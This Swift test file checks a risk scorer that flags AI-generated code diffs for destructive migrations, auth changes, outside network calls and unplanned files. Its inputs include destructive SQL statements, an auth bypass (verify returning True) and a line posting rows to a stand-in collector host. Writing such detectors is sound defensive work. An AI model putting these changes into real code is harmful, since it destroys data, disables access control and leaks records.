import Foundation
import Testing
@testable import RunService

/// The rule-based risk over what a run's diffs change (`DiffRisk`) and how it raises the run's
/// score with the build's findings and a model reviewer's view (`RunRisk`): pure functions, so
/// each rule is shown firing on the kind of change it names and staying quiet on its neighbours.
@Suite struct DiffRiskTests {
    /// A `git diff` of new files (`added`) and of changed ones (`changed`: removed, then added lines).
    static func diff(added: [String: [String]] = [:], changed: [String: (removed: [String], added: [String])] = [:]) -> String {
        var text = ""
        for (path, lines) in added.sorted(by: { $0.key < $1.key }) {
            text += "diff --git a/\(path) b/\(path)\nnew file mode 100644\n--- /dev/null\n+++ b/\(path)\n@@ -0,0 +1,\(lines.count) @@\n"
            text += lines.map { "+\($0)\n" }.joined()
        }
        for (path, lines) in changed.sorted(by: { $0.key < $1.key }) {
            text += "diff --git a/\(path) b/\(path)\n--- a/\(path)\n+++ b/\(path)\n@@ -1,\(lines.removed.count) +1,\(lines.added.count) @@\n"
            text += lines.removed.map { "-\($0)\n" }.joined() + lines.added.map { "+\($0)\n" }.joined()
        }
        return text
    }

    static let planned: Set<String> = ["app/auth.py", "app/oidc.py", "app/resources/tickets.py", "migrations/0002_create_tickets.up.sql", "migrations/0002_create_tickets.down.sql", "tests/test_api.py"]

    static func risk(_ diffs: [DiffRisk.Diff], planned: Set<String> = planned) -> [DiffRisk.Rule] {
        DiffRisk(diffs: diffs, plannedFiles: planned).findings.map(\.rule)
    }

    static func codegen(_ text: String) -> DiffRisk.Diff { DiffRisk.Diff(iteration: 1, role: "codegen_engineer", text: text) }
    static func fix(_ text: String, iteration: Int = 2) -> DiffRisk.Diff { DiffRisk.Diff(iteration: iteration, role: "auto_fixer", text: text) }

    @Test func aFreshScaffoldOfPlannedFilesRaisesNothing() {
        let text = Self.diff(added: [
            "app/auth.py": ["import jwt", "def current_user(): ..."],
            "app/oidc.py": ["import urllib.request", "with urllib.request.urlopen(request, timeout=5) as response:"],
            "migrations/0002_create_tickets.up.sql": ["CREATE TABLE tickets (id uuid PRIMARY KEY);", "CREATE TRIGGER t_audit AFTER INSERT OR UPDATE OR DELETE ON tickets", "CREATE TRIGGER no_truncate BEFORE TRUNCATE ON audit_log"],
            "migrations/0002_create_tickets.down.sql": ["DROP TABLE IF EXISTS tickets;"],
            "tests/test_api.py": ["OIDC = 'https://login.example.test/'"],
        ])
        #expect(Self.risk([Self.codegen(text)]).isEmpty)
    }

    @Test(arguments: [
        "DROP TABLE tickets;", "  drop column legacy;", "TRUNCATE audit_log;", "DELETE FROM tickets;", "ALTER TABLE tickets DROP COLUMN subject;",
        "ALTER TABLE tickets ALTER COLUMN priority TYPE integer USING 1;", "ALTER TABLE tickets RENAME TO cases;", "drop schema app cascade;",
    ])
    func aForwardMigrationThatDestroysIsFlagged(statement: String) {
        let text = Self.diff(added: ["migrations/0002_create_tickets.up.sql": ["CREATE TABLE x (id int);", statement]])
        let found = DiffRisk(diffs: [Self.codegen(text)], plannedFiles: Self.planned).findings
        #expect(found.map(\.rule) == [.destructiveMigration], "\(statement)")
        #expect(found.first?.detail.contains("migrations/0002_create_tickets.up.sql") == true)
    }

    @Test func rollbacksAndConditionalDeletesAreNotDestructive() {
        let text = Self.diff(added: [
            "migrations/0002_create_tickets.down.sql": ["DROP TABLE tickets;", "TRUNCATE tickets;"],
            "migrations/0002_create_tickets.up.sql": ["DELETE FROM tickets WHERE tenant_id IS NULL;", "-- DROP TABLE tickets; was considered"],
        ])
        #expect(Self.risk([Self.codegen(text)]).isEmpty)
    }

    @Test func authCodeChangedByAFixOrRewrittenIsFlaggedButItsTestsAreNot() {
        let created = Self.diff(added: ["app/rbac.py": ["ROLES = {}"]])
        #expect(Self.risk([Self.codegen(created)], planned: ["app/rbac.py"]).isEmpty, "creating planned auth code is the plan")
        let fixed = Self.diff(changed: ["app/rbac.py": (removed: [], added: ["ROLES['viewer'] = ALL"])])
        #expect(Self.risk([Self.codegen(created), Self.fix(fixed)], planned: ["app/rbac.py"]) == [.authChanged])
        let rewritten = Self.diff(changed: ["app/auth.py": (removed: ["def verify(token): check(token)"], added: ["def verify(token): return True"])])
        let finding = DiffRisk(diffs: [Self.codegen(rewritten)], plannedFiles: Self.planned).findings
        #expect(finding.map(\.rule) == [.authChanged])
        #expect(finding.first?.reason == "auth_changed (+15): app/auth.py (1 existing lines removed)")
        let testsOnly = Self.diff(changed: ["tests/test_auth.py": (removed: ["assert a"], added: ["assert b"])])
        #expect(Self.risk([Self.fix(testsOnly)], planned: ["tests/test_auth.py"]).isEmpty)
    }

    @Test func hardCodedOutsideAddressesAndUnplannedOutboundCallsAreFlagged() {
        let literal = Self.diff(changed: ["app/resources/tickets.py": (removed: [], added: ["requests.post('https://collector.example.com/t', json=row)"])])
        let found = DiffRisk(diffs: [Self.fix(literal)], plannedFiles: Self.planned).findings
        #expect(found.map(\.rule) == [.outsideCalls])
        #expect(found.first?.detail == "app/resources/tickets.py: https://collector.example.com")
        let unplanned = Self.diff(added: ["app/sync.py": ["import socket", "conn = socket.create_connection((HOST, PORT))"]])
        #expect(Self.risk([Self.codegen(unplanned)]) == [.outsideCalls, .filesOutsidePlan])
        let loopback = Self.diff(added: ["app/resources/tickets.py": ["HEALTH = 'http://127.0.0.1:8000/health'", "LOCAL = 'http://localhost:5432'"]])
        #expect(Self.risk([Self.codegen(loopback)]).isEmpty)
        let documented = Self.diff(added: ["README.md": ["See https://docs.example.com"]])
        #expect(Self.risk([Self.codegen(documented)], planned: ["README.md"]).isEmpty)
    }

    @Test func filesOutsideThePlanAreNamedOnceWhateverTheIterations() {
        let text = Self.diff(added: ["app/extra.py": ["x = 1"], "notes.txt": ["hello"]])
        let findings = DiffRisk(diffs: [Self.codegen(text), Self.fix(text)], plannedFiles: Self.planned).findings
        #expect(findings.map(\.rule) == [.filesOutsidePlan])
        #expect(findings.first?.detail == "app/extra.py; notes.txt")
    }

    /// A passing report whose rollback was verified.
    static let passing = try! JSONDecoder().decode(EvalSummary.self, from: Data("""
        {"iteration": 1, "score": 100, "tests_passed": 10, "tests_failed": 0, "checks_passed": 2, "checks_failed": 0, "failing_files": [],
         "checks": [{"name": "rollback_down", "status": "passed"}, {"name": "rollback_up", "status": "passed"}]}
        """.utf8))

    @Test func theRunsScoreAddsEachRuleOnceAndSaysWhatRaisedWhat() {
        let text = Self.diff(added: ["app/extra.py": ["x = 1"], "migrations/0009_cleanup.up.sql": ["DROP TABLE legacy;"]])
        let risk = RunRisk(planScore: 30, report: Self.passing, iterations: 2, diff: DiffRisk(diffs: [Self.codegen(text)], plannedFiles: Self.planned))
        #expect(risk.score == 30 + 10 + 25 + 10)
        #expect(risk.reasons.map { String($0.prefix { $0 != ":" }) } == ["needed_autofix (+10)", "destructive_migration (+25)", "files_outside_plan (+10)"])
    }

    @Test func aModelReviewerRaisesTheScoreWithItsReasonButNeverLowersIt() {
        let none = DiffRisk(diffs: [], plannedFiles: [])
        let raised = RunRisk(planScore: 40, report: Self.passing, iterations: 1, diff: none, reviewer: .init(score: 75, reason: "exports every ticket to a spreadsheet"))
        #expect(raised.score == 75)
        #expect(raised.reasons == ["reviewer (+35): exports every ticket to a spreadsheet"])
        let lower = RunRisk(planScore: 40, report: Self.passing, iterations: 1, diff: none, reviewer: .init(score: 5, reason: "harmless"))
        #expect(lower.score == 40 && lower.reasons.isEmpty)
        let capped = RunRisk(planScore: 95, report: Self.passing, iterations: 3, diff: none, reviewer: .init(score: 250, reason: "x"))
        #expect(capped.score == 100 && capped.reasons == ["needed_autofix (+5): the first evaluation failed; 2 fix iteration(s) changed code"])
    }
}
